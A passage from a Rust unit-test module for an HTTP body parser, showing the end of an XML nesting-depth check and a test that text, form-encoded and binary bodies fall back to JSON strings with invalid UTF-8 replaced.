            BodyError::XmlTooDeep { max_depth: 64 }
        );
    }

    #[test]
    fn text_fallback() {
        assert_eq!(
            parse(Some("text/plain; charset=utf-8"), b"hello {\"not\": json}").unwrap(),
            json!("hello {\"not\": json}")
        );
        assert_eq!(parse(None, b"a=1&b=2").unwrap(), json!("a=1&b=2"));
        assert_eq!(
            parse(Some("application/octet-stream"), b"ok \xFF").unwrap(),
            json!("ok \u{FFFD}")
        );
    }
}
